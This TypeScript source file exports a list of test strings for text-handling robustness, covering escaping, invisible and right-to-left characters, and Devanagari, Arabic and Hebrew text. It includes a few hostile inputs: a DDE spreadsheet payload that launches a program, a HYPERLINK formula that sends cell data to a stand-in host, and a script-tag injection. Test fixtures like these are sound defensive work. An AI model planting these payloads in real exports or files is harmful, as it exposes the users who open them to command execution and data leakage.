/** Texts that programs have executed, split or garbled: markup, entities, quotes, invisible characters, right-to-left scripts. */
const list = (text: string): string[] => text.split(' ¦ ')

export const hostileTexts: readonly string[] = list(
  `=HYPERLINK("http://x.example/?"&A1;"Click") ¦ =cmd|' /C calc'!A0 ¦ ",=1+1," ¦ a"\r\n=1+1 ¦ {=1+1} ¦ tab\tinside ¦ ` +
    `\u000B=1 ¦ \u200B=1 ¦ \uFEFFb ¦ a\u202Eb\u202Cc ¦ a\u2028b ¦ Asha\u00A0Patil ¦ Jose\u0301 ¦ ` +
    `<script>alert(1)</script> ¦ &lt;b&gt; &amp; ¦ %0A=1+1 ¦ one\ntwo\n\nthree ¦ two  blanks ¦ C:\\new\\table ¦ $100 off ¦ ` +
    `D'Souza ¦ O’Brien ¦ the "best" shop ¦ C++ & C# ¦ a@b = c ¦ Patil; Sons, Ltd. ¦ ज्ञानेश्वर क्षीरसागर ¦ र्\u200Dहाटकर ¦ ` +
    `अ\u200Cक्षर क्\u200Dष ¦ क\u093C ख\u093C ¦ ॐ साई, शिर्डी ¦ शाॅप "नंबर १"; पुणे ¦ 👩\u200D👩\u200D👧 परिवार ¦ مرحبا بكم ¦ שלום = 5`,
)
